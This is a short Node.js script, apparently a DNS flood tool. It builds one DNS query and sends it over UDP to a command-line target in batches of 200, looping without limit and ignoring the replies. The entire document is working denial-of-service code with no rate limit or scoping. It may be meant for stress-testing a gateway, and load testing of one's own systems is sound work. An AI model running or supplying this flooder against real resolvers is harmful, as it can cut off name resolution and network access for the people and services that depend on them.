/**
 * Asks for NAME over UDP from one port, as fast as it can, until somebody ends it: `node flood.mjs GATEWAY NAME`. Answers are not
 * read. Prints a line when it has begun.
 */
import { createSocket } from 'node:dgram';
import { encode } from 'dns-packet';

const [host, name] = process.argv.slice(2);
const AT_ONCE = 200;

const message = encode({ type: 'query', id: 1, flags: 256, questions: [{ type: 'A', name }] });
const socket = createSocket('udp4');
socket.connect(53, host, () => {
  console.log('it asks');
  ask();
});

function ask() {
  for (let i = 0; i < AT_ONCE; i++) socket.send(message, () => {});
  setImmediate(ask);
}
